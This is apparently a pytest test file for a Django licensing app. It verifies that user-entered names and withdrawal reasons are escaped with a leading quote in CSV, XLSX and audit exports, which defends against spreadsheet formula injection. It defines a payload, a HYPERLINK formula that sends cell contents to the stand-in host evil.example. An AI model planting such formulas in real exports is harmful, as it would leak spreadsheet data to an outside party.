"""Outside review finding 3 (docs/security.md): text an applicant typed (enterprise name, withdrawal reason)
never reaches a CSV/XLSX export as a formula (OWASP CSV Injection; accounts/spreadsheets.py)."""

import csv
import io

import pytest
from django.core.management import call_command
from django.urls import reverse
from django.utils import timezone
from openpyxl import load_workbook

from accounts.spreadsheets import neutralise, neutralise_row
from tests.support.builders import make_catalogue
from tests.support.licence_builders import licence_row, months_after
from tests.support.workflow_builders import application_in, make_parties, submitted
from workflows import actions
from workflows.models import ApplicationState

pytestmark = pytest.mark.django_db

HOSTILE = '=HYPERLINK("http://evil.example/?x="&A1,"点击查看")'


@pytest.fixture
def parties():
    p = make_parties(make_catalogue())
    organisation = p.applicant.organisation
    organisation.name = HOSTILE
    organisation.save(update_fields=["name"])
    return p


def consume(response):
    assert response.status_code == 200
    return b"".join(response.streaming_content) if response.streaming else response.content


def csv_cells(response):
    return [cell for row in csv.reader(io.StringIO(consume(response).decode("utf-8-sig"))) for cell in row]


def xlsx_cells(response):
    workbook = load_workbook(io.BytesIO(consume(response)))
    return [(cell.value, cell.data_type) for sheet in workbook for row in sheet.iter_rows() for cell in row]


def assert_neutralised(client, url, params=None):
    """The hostile text is in both exports, as text starting with a quote, never as a formula."""
    cells = csv_cells(client.get(url, {**(params or {}), "export": "csv"}))
    assert "'" + HOSTILE in cells and HOSTILE not in cells
    cells = xlsx_cells(client.get(url, {**(params or {}), "export": "xlsx"}))
    assert ("'" + HOSTILE, "s") in cells
    assert not [value for value, data_type in cells if data_type == "f" or str(value or "").startswith("=")]


@pytest.mark.parametrize(
    "value,expected",
    [
        ("=1+2", "'=1+2"),
        ("+86 10 1234", "'+86 10 1234"),
        ("-2+3", "'-2+3"),
        ("@SUM(A1)", "'@SUM(A1)"),
        ("\t=1", "'\t=1"),
        ("\r=1", "'\r=1"),
        ("北京=某公司", "北京=某公司"),
        ("", ""),
        (-5, -5),
        (2.5, 2.5),
        (None, None),
    ],
)
def test_the_rule_quotes_formula_text_only(value, expected):
    assert neutralise(value) == expected


def test_rows_of_both_shapes():
    assert neutralise_row(["=1", -1, "a"]) == ["'=1", -1, "a"]
    assert neutralise_row({"a": "@x", "b": 3}) == {"a": "'@x", "b": 3}


def test_queue_export_quotes_an_enterprise_name(client, parties):
    application_in(ApplicationState.ACCEPTED, parties)
    client.force_login(parties.authority)
    assert_neutralised(client, reverse("licensing:index"))


def test_licence_register_export_quotes_a_holder_name(client, parties):
    licence_row(parties, months_after(timezone.localdate(), 30))
    client.force_login(parties.authority)
    assert_neutralised(client, reverse("licences:index"))


def test_audit_report_export_quotes_a_withdrawal_reason(client, parties):
    actions.withdraw(submitted(parties), parties.applicant, HOSTILE)
    client.force_login(parties.samr)
    parties.samr.is_superuser = True
    parties.samr.save(update_fields=["is_superuser"])
    assert_neutralised(client, reverse("audit_transitions:index"), {"transition": "withdraw"})


def test_export_audit_command_quotes_a_withdrawal_reason(parties):
    actions.withdraw(submitted(parties), parties.applicant, HOSTILE)
    out = io.StringIO()
    call_command("export_audit", "--since", timezone.localdate().isoformat(), "--format", "csv", stdout=out)
    cells = [cell for row in csv.reader(io.StringIO(out.getvalue())) for cell in row]
    assert "'" + HOSTILE in cells and HOSTILE not in cells


def test_statistics_exports_quote_an_authority_name(client, parties):
    authority = parties.authority.organisation
    authority.name = "=" + authority.name
    authority.save(update_fields=["name"])
    client.force_login(parties.authority)
    url = reverse("statistics:index")
    cells = xlsx_cells(client.get(url, {"export": "xlsx"}))
    assert ("'" + authority.name, "s") in cells
    assert not [value for value, data_type in cells if data_type == "f"]
    # Counts stay numbers.
    assert any(isinstance(value, int) for value, _type in cells)
